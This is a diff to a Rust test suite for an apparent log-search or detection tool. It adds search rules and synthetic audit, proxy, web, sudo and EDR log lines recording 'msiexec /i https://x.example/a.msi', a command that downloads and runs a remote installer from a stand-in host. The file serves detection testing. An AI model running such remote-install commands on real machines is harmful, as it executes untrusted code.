@@ -36,6 +36,11 @@ use proptest::test_runner::{Config, TestCaseError};
 /// Neighbours run together, so those with a guard come first.
 const RULES: &[(&str, bool)] = &[
     (r#"".msi" "://" | stats count by host"#, false),
+    (
+        r#"user=alice process="*msiexec /i*x.example*" | table _time, host, sourcetype, process"#,
+        true,
+    ),
+    (r#"url="*x.example/a.msi" OR uri="*a.msi" | stats count by src_ip, user, status"#, false),
     // Its needle overlaps that of the one before.
     (r#""a.msi" OR "example/a.msi" | stats count by host, user"#, false),
     (
@@ -280,8 +285,18 @@ const HOT: &[&str] = &[
     "10.0.0.5",
 ];
 
+/// How many texts of [`JUNK`], its first, are lines of other logs.
+const LINES: usize = 6;
+
 /// Bytes that stand between events in damaged files.
 const JUNK: &[&str] = &[
+    // Lines of other logs, which make a log of lines of a file that starts with one.
+    "type=EXECVE msg=audit(1577934245.678:9): argc=4 a0=\"msiexec\" a1=\"/i\" a2=\"https://x.example/a.msi\" a3=\"kernels\"\n",
+    "node=srv-02 type=USER_CMD msg=audit(1577934245.678:9): msg='cmd=\"MSIEXEC /I HTTPS://X.EXAMPLE/A.MSI\" acct=\"alice\" res=success'\n",
+    "192.0.2.1 - alice [02/Jan/2020:03:04:05 +0000] \"GET https://x.example/a.msi HTTP/1.1\" 200 1 \"-\" \"msiexec /i\"\n",
+    "1577934245.678 1 192.0.2.1 TCP_MISS/200 1 GET https://x.example/a.msi alice DIRECT/192.0.2.9 a/b\n",
+    "<13>Jan  2 03:04:05 srv-02 sudo[1]: alice : COMMAND=msiexec /i https://x.example/a.msi\n",
+    "{\"event_simpleName\":\"ProcessRollup2\",\"aid\":\"a\",\"cid\":\"c\",\"ComputerName\":\"srv-02\",\"UserName\":\"alice\",\"CommandLine\":\"msiexec /i https://x.example/a.msi\",\"timestamp\":\"1577934245678\"}\n",
     "\n",
     "\0\0\0\0",
     "\r\n\r\n",
@@ -1012,6 +1027,7 @@ fn every_rule_finds_something() {
     // As XML with its message each says the most.
     let bytes = maker.text(Style::Xml(XmlLayout::Rendered), Escapes::Least, &events);
     write(&folder.path().join("events.xml"), &bytes);
+    write(&folder.path().join("lines.log"), JUNK[..LINES].concat().as_bytes());
     let plans = plans(Reading::AS_MEANT);
     let options = Options { threads: 2, ..Options::default() };
     let paths = [folder.path().to_owned()];
